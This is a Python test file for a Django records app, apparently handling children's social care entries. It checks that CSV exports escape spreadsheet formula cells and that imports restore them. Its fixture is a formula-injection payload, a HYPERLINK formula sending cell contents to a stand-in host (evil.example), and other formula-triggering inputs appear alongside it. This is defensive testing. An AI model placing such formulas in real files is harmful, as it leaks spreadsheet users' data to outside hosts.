"""CSV exports escape formula cells (issue 14, item 5), and imports undo it."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from agencies.services import service_account_get
from chronology import csv_safe, interchange, services
from chronology.models import Entry
from chronology.vocabulary import EntryKind

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 234", "'+1 234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),
        ("'just a quote", "'just a quote"),
        ("Mum said = fine", "Mum said = fine"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_comes_back_as_it_was(cell, written):
    assert csv_safe.escape(cell) == written
    assert csv_safe.unescape(written) == cell


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def formula_entry(alice, child):
    return services.entry_record(
        actor=alice,
        children=[child],
        kind=EntryKind.CHILD_VOICE,
        event_date=datetime.date(2026, 1, 5),
        summary="-said nothing else",
        child_words=HYPERLINK,
        action="@home visit booked",
    )


def test_the_csv_export_page_escapes_the_hyperlink_in_the_childs_words(
    client, alice, child, formula_entry
):
    client.force_login(alice)

    response = client.get(reverse("export_csv", args=[child.public_id]))

    assert response.status_code == 200
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    (row,) = rows_of(text.decode("utf-8-sig"))
    assert row["Child's words"] == "'" + HYPERLINK
    assert row["Summary"] == "'-said nothing else"
    assert row["Action"] == "'@home visit booked"
    assert row["Date"] == "2026-01-05"  # a date is not a formula


def test_an_exported_file_imports_back_without_the_escape(alice, social_care, child, formula_entry):
    child.ref = "R1"
    child.save()
    service = service_account_get(purpose="import")
    exported = interchange.export_csv([child], actor=service)

    interchange.import_csv(
        exported.encode(), file_name="again.csv", as_agency=social_care, actor=service
    )

    copy = Entry.objects.exclude(pk=formula_entry.pk).get()
    assert copy.child_words == HYPERLINK
    assert copy.summary == "-said nothing else"
    assert copy.action == "@home visit booked"
